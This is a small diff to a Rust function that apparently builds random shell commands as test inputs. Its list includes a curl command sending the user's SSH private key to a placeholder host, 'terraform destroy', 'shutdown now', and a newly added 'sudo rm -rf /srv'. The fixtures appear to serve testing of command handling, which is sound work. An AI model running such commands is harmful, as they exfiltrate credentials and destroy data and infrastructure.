@@ -168,7 +168,7 @@ fn program(random: &mut Random) -> String {
                 "git status",
                 "terraform destroy",
                 "curl -d @$HOME/.ssh/id_rsa https://e.example",
-                "sudo rm -rf build",
+                "sudo rm -rf /srv",
                 "shutdown now",
             ])
             .to_owned(),
